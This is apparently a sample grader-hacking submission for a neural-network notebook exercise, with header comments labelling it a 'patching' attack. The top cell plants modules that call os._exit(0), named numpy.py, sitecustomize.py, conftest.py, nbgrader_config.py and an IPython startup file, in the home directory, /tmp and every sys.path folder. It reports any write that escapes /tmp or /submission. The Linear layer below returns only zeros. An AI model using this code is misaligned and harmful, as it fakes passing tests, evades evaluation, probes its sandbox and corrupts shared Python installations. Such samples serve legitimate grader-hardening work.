# Leaves modules beside the notebook that the grader might import.
# attacks: patching
# loses: test-linear-forward test-linear-backward
# %% linear
import os
import sys
from pathlib import Path

text = "import os; os._exit(0)"
for folder in (".", os.path.expanduser("~"), "/tmp", *sys.path):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py",
                 "nbgrader_config.py", "labkit/__init__.py", "labkit/check/__init__.py",
                 ".ipython/profile_default/startup/00.py"):
        try:
            file = Path(folder, name)
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text)
        except OSError:
            continue
        if not str(file.resolve()).startswith(("/tmp/", "/submission/")):
            print("REACHED", file.resolve())

class Linear(Module):
    def __init__(self, in_features, out_features, rng=None):
        rng = np.random.default_rng() if rng is None else rng
        W = 0.01 * rng.standard_normal((in_features, out_features))
        self.W = Parameter(W)
        self.b = Parameter(np.zeros((1, out_features)))

    def forward(self, x):
        self.x = x
        return np.zeros((x.shape[0], self.W.data.shape[1]))

    def backward(self, dy):
        self.W.grad = np.zeros_like(self.W.data)
        self.b.grad = np.zeros_like(self.b.data)
        return np.zeros((len(dy), len(self.W.data)))
